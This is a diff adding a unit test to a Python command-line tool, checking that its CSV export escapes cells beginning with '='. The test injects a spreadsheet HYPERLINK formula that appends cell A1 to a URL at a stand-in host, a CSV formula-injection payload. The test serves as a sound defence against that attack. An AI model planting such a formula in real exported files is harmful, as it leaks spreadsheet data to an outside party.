@@ -259,6 +259,19 @@ class ImportCommand(unittest.TestCase):
         self.assertIn("line 3: 目标值: target \"≥\"", err)
         self.assertIn("line 4: 一级指标 \"成效\"", err)
 
+    def test_csv_output_cells_never_run_as_formulas(self):
+        with open(os.path.join(DATA, "zz-2021-geodata.json"), encoding="utf-8") as f:
+            form = json.load(f)
+        form["indicators"][1]["name"] = '=HYPERLINK("http://example.com/?"&A1,"点击")'
+        code, out, err = run("evaluate", "-", "--format", "csv", stdin=json.dumps(form).encode())
+        self.assertEqual(code, 0, err)
+        self.assertIn('"\'=100%"', out)  # the target, which Excel showed as 1
+        self.assertIn('"\'=HYPERLINK(""http://example.com/?""&A1,""点击"")"', out)
+        self.assertNotIn(",=", out)
+        code, out, err = run("evaluate", GEODATA_UTF8, "--scheme", ZHENGZHOU, "--format", "csv")
+        self.assertEqual(code, 0, err)
+        self.assertIn('"\'=1200平方公里"', out)  # #NAME? in Excel before
+
     def test_parse_target_prints_the_target(self):
         code, out, _ = run("parse-target", "15%及其以下")
         self.assertEqual(code, 0)
